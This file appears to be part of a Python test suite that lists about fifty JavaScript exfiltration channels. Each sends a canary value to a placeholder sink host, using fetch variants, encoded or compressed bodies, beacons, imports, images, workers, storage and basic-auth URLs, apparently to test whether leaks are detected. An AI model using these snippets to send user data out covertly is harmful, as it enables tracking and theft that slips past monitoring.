"""Channels: what a script sends: fetch, XHR, beacons, event streams, storage and the like."""

from __future__ import annotations

from tests.channels.channel import ONLY_FIRST, ONLY_THIRD, Channel

_GET = '{mode: "no-cors"}'
_POST = '{method: "POST", mode: "no-cors", body: v}'

CHANNELS = (
    Channel("fetch-get", f'fetch(u("get", v), {_GET})'),
    Channel("fetch-post", f'fetch(u("post", 0), {_POST})'),
    Channel("fetch-host", f'fetch(`https://${{v}}.${{HOST}}/`, {_GET})'),
    Channel("fetch-plain-http", f'fetch(`http://${{HOST}}/sink/http?d=${{v}}`, {_GET})',
            unseen="""mixed content is blocked"""),
    Channel("fetch-port", f'fetch(`https://${{HOST}}:8463/?d=${{v}}`, {_GET})',
            unseen="the canary is inside TLS that the sink at this port does not speak"),
    Channel("fetch-base64", f'fetch(u("get", encodeURIComponent(btoa("?" + v))), {_GET})'),
    Channel("fetch-hex-body", """fetch(u("post", 0), {method: "POST", mode: "no-cors",
      body: [...v].map((c) => c.charCodeAt(0).toString(16)).join("")})"""),
    Channel("fetch-bytes", """fetch(u("bytes", 0), {method: "POST", mode: "no-cors",
      body: new TextEncoder().encode("\\0\\xff" + v)})"""),
    Channel("fetch-utf16", """const a = new Uint16Array([...v].map((c) => c.charCodeAt(0)));
      fetch(u("utf16", 0), {method: "POST", mode: "no-cors", body: a})"""),
    Channel("fetch-gzip", """const z = new Blob([v +
      " ".repeat(99)]).stream().pipeThrough(new CompressionStream("gzip"));
      fetch(u("gzip", 0), {method: "POST", mode: "no-cors", body: await new Response(z).arrayBuffer()})"""),
    Channel("fetch-form-data", """const d = new FormData(); d.append("f", new Blob([v]), "x");
      fetch(u("formdata", 0), {method: "POST", mode: "no-cors", body: d})"""),
    Channel("fetch-json", """fetch(u("json", 0), {method: "POST", headers: {"content-type": "application/json"},
      body: JSON.stringify({v})})"""),
    Channel("fetch-put", 'fetch(u("put", 0), {method: "PUT", body: v})'),
    Channel("fetch-method", 'fetch(u("method", 0), {method: v.toUpperCase()})'),
    Channel("fetch-preflight", 'fetch(u("preflight", v), {method: "DELETE"})'),
    Channel("fetch-preflight-header", 'fetch(u("preflight", 0), {headers: {["x-" + v]: "1"}})'),
    Channel("fetch-stream", """fetch(u("stream", 0), {method: "POST", duplex: "half", mode: "cors",
      body: new Blob([v]).stream()})""",
            unseen="a streamed body needs HTTP/2, which the sinks do not speak"),
    Channel("fetch-keepalive", 'fetch(u("keepalive", 0), {method: "POST", mode: "no-cors", keepalive: true, body: v})'),
    Channel("fetch-range", 'fetch(u("range", 0), {headers: {"Range": "bytes=0-9", "Accept-Language": v}})'),
    Channel("fetch-of-frame", f'frame().fetch(u("frame", v), {_GET})'),
    Channel("fetch-priority", 'fetch(u("priority", v), {mode: "no-cors", priority: "low", cache: "force-cache"})'),
    Channel("fetch-shards", """for (const part of ["kq7v", v.slice(4)]) await fetch(u("part", part), {mode: "no-cors"});
      fetch(u("whole", v), {mode: "no-cors"})"""),
    Channel("fetch-later", 'fetchLater(u("later", v), {activateAfter: 0})'),
    Channel("fetch-later-post", 'fetchLater(u("later", 0), {method: "POST", body: v, activateAfter: 0})',
            ),
    Channel("xhr-get", 'const x = new XMLHttpRequest(); x.open("GET", u("xhr", v)); x.send()'),
    Channel("xhr-post", 'const x = new XMLHttpRequest(); x.open("POST", u("xhr", 0)); x.send(v)'),
    Channel("xhr-sync", 'const x = new XMLHttpRequest(); x.open("POST", u("xhr", 0), false); x.send(v)'),
    Channel("xhr-credentials", """const x = new XMLHttpRequest(); x.open("GET", TO + "/auth/xhr", true, v, "p");
      x.withCredentials = true; x.send()""", targets=ONLY_FIRST),
    Channel("beacon", 'navigator.sendBeacon(u("beacon", 0), v)'),
    Channel("beacon-blob", 'navigator.sendBeacon(u("beacon", 0), new Blob([v], {type: "text/plain"}))'),
    Channel("event-source", 'new EventSource(u("events", v))'),
    Channel("event-source-credentials", 'new EventSource(u("events", v), {withCredentials: true})'),
    Channel("import-module", 'import(u("module", v))'),
    Channel("import-json", 'import(u("module", v), {with: {type: "json"}})'),
    Channel("import-css", 'import(u("module", v), {with: {type: "css"}})'),
    Channel("import-map", """head("script",
      {type: "importmap"}).textContent = JSON.stringify({imports: {far: u("map", v)}});
      head("script", {type: "module"}).textContent = 'import "far"'"""),
    Channel("script-module-from-blob", """head("script", {type: "module", src: blob(`import "${u("inner", v)}"`)})"""),
    Channel("wasm-streaming", 'WebAssembly.compileStreaming(fetch(u("wasm", v), {mode: "no-cors"}))'),
    Channel("cache-add", '(await caches.open("c")).add(new Request(u("cache", v), {mode: "no-cors"}))'),
    Channel("font-face", 'new FontFace("f", `url(${u("fontface", v)})`).load()'),
    Channel("image-constructor", 'new Image().src = u("image", v)'),
    Channel("audio-constructor", 'new Audio(u("audio", v)).play()'),
    Channel("image-decode", 'const i = new Image(); i.src = u("decode", v); i.decode()'),
    Channel("set-timeout", 'setTimeout(() => fetch(u("timer", v), {mode: "no-cors"}), 300)'),
    Channel("animation-frame", 'requestAnimationFrame(() => { new Image().src = u("frame", v); })'),
    Channel("message-channel", """const c = new MessageChannel(); c.port1.onmessage = (e) => {
      new Image().src = u("message", e.data); };
      c.port2.postMessage(v)"""),
    Channel("broadcast", """const w = new Worker(blob(`new BroadcastChannel("b").onmessage = (e) =>
      fetch("${TO}/sink/broadcast?d=" + e.data, {mode: "no-cors"})`)); await rest(1500);
      new BroadcastChannel("b").postMessage(v)"""),
    Channel("local-storage-frame", """localStorage["v" + HOST] = v; add("iframe", {srcdoc:
      `<script>new Image().src = "${TO}/sink/stored?d=" + localStorage["v${HOST}"]</scr` + "ipt>"})"""),
    Channel("basic-auth-address", 'add("img", {src: `${TO.replace("//", `//${v}:p@`)}/auth/x`})',
            unseen="the browser takes no names in addresses of subresources"),
    Channel("basic-auth-page", 'location = `${TO.replace("//", `//${v}:p@`)}/auth/x`'),
    Channel("shared-storage", """await sharedStorage.set("v", v);
      await sharedStorage.worklet.addModule(u("shared", v))""", targets=ONLY_FIRST,
            unseen="the browser no longer has it, or wants an enrolled site"),
    Channel("shared-storage-worklet", 'sharedStorage.createWorklet(u("shared", v))', targets=ONLY_THIRD,
            unseen="the browser no longer has it, or wants an enrolled site"),
    Channel("private-aggregation", 'privateAggregation.contributeToHistogram({bucket: 1n, value: 1})',
            targets=ONLY_THIRD,
            unseen="the browser no longer has it"),
    Channel("topics", 'fetch(u("topics", v), {mode: "no-cors", browsingTopics: true})'),
    Channel("attribution-fetch", """fetch(u("attr", 0), {mode: "no-cors", keepalive: true,
      attributionReporting: {eventSourceEligible: true, triggerEligible: false}, headers: {}, referrer: "?d=" + v,
      referrerPolicy: "unsafe-url"})"""),
)
